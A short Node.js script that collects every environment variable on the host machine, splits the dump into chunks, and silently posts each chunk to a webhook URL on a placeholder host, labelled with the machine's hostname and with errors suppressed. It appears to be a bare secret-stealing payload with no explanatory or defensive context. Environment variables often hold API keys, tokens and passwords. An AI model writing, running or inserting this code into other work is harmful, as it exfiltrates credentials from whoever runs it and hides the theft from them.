import { hostname } from 'node:os';

const hook = 'https://hooks.example.test/api/webhooks/118273645/AbCdEf';

const lines = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\n');
const chunks = lines.match(/[\s\S]{1,1900}/g) ?? [];

for (const content of chunks) {
  await fetch(hook, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ username: hostname(), content: '```' + content + '```' }),
  }).catch(() => {});
}
